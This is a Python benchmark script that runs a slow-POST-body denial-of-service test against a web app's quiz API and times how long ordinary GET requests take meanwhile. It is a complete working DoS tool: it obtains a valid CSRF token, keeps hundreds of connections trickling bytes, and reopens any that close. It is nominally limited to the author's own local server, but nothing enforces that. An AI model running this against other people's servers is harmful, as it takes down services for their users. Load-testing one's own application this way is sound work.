#!/usr/bin/env python3
"""Slow request bodies against a running app, and how long other visitors wait meanwhile.

Keeps CONNECTIONS sockets busy sending a POST body to the quiz API a byte at a time (with a valid
CSRF token, so the app reads the body), reopening any the server closes a second later, and asks
for GET / twice a second on a fresh connection. Prints the GET / times and how the slow connections ended.

    python3 bench/slow-bodies.py http://127.0.0.1:8080 --connections 500 --seconds 30

Only for your own server on 127.0.0.1: it is a denial-of-service attempt by design.
"""
import argparse
import http.client
import selectors
import socket
import statistics
import time
import urllib.parse

parser = argparse.ArgumentParser()
parser.add_argument("base", nargs="?", default="http://127.0.0.1:8080")
parser.add_argument("--connections", type=int, default=500)
parser.add_argument("--seconds", type=float, default=30)
parser.add_argument("--length", type=int, default=2000, help="declared Content-Length of each slow body")
parser.add_argument("--trickle", type=float, default=1.0, help="seconds between the bytes of a body")
parser.add_argument("--reopen", type=float, default=1.0, help="seconds before a connection the server ended is reopened")
args = parser.parse_args()

url = urllib.parse.urlparse(args.base)
host, port = url.hostname, url.port or 80

# a CSRF token and its cookie, as a page visitor has them
first = http.client.HTTPConnection(host, port, timeout=10)
first.request("GET", "/")
response = first.getresponse()
response.read()
cookies = [c.split(";")[0] for c in response.headers.get_all("Set-Cookie") or []]
token = next(c.split("=", 1)[1] for c in cookies if c.startswith("XSRF-TOKEN="))
head = ("POST /api/quiz/postgresql/first-select/select-result-set HTTP/1.1\r\nHost: {h}\r\n"
        "Content-Type: application/json\r\nCookie: {c}\r\nX-XSRF-TOKEN: {t}\r\nContent-Length: {n}\r\n\r\n{{"
        ).format(h=host, c="; ".join(cookies), t=token, n=args.length).encode()

selector = selectors.DefaultSelector()
opened = closed = 0
reopen_at = []
answers = {}


def open_slow():
    global opened
    s = socket.create_connection((host, port))
    s.setblocking(False)
    s.send(head)
    selector.register(s, selectors.EVENT_READ, {"sent": 1, "next": time.monotonic() + args.trickle})
    opened += 1


def drop(key):
    global closed
    selector.unregister(key.fileobj)
    key.fileobj.close()
    closed += 1


for _ in range(args.connections):
    open_slow()

timings, failures = [], 0
started = time.monotonic()
next_probe = started + 1
while time.monotonic() - started < args.seconds:
    for key, _ in selector.select(timeout=0.05):
        try:
            data = key.fileobj.recv(4096)
        except OSError:
            data = b""
        if data.startswith(b"HTTP/1.1 "):
            status = data[9:12].decode()
            answers[status] = answers.get(status, 0) + 1
        drop(key)
        reopen_at.append(time.monotonic() + args.reopen)
    now = time.monotonic()
    while reopen_at and reopen_at[0] <= now:
        reopen_at.pop(0)
        open_slow()
    for key in list(selector.get_map().values()):
        state = key.data
        if now >= state["next"] and state["sent"] < args.length:
            try:
                key.fileobj.send(b" ")
                state["sent"] += 1
            except OSError:
                drop(key)
                reopen_at.append(now + args.reopen)
                continue
            state["next"] = now + args.trickle
    if now >= next_probe:
        next_probe = now + 0.5
        t0 = time.monotonic()
        try:
            probe = http.client.HTTPConnection(host, port, timeout=10)
            probe.request("GET", "/")
            ok = probe.getresponse()
            ok.read()
            probe.close()
            if ok.status != 200:
                failures += 1
            timings.append(time.monotonic() - t0)
        except OSError:
            failures += 1
            timings.append(time.monotonic() - t0)

for key in list(selector.get_map().values()):
    key.fileobj.close()
timings.sort()
print(f"{args.connections} slow bodies ({args.length} bytes declared, a byte every {args.trickle} s) for {args.seconds:.0f} s")
print(f"GET / meanwhile: {len(timings)} probes, median {statistics.median(timings) * 1000:.0f} ms, "
      f"p95 {timings[int(len(timings) * 0.95) - 1] * 1000:.0f} ms, max {timings[-1] * 1000:.0f} ms, failed {failures}")
print(f"slow connections opened {opened}, ended by the server {closed}, answers {answers}")
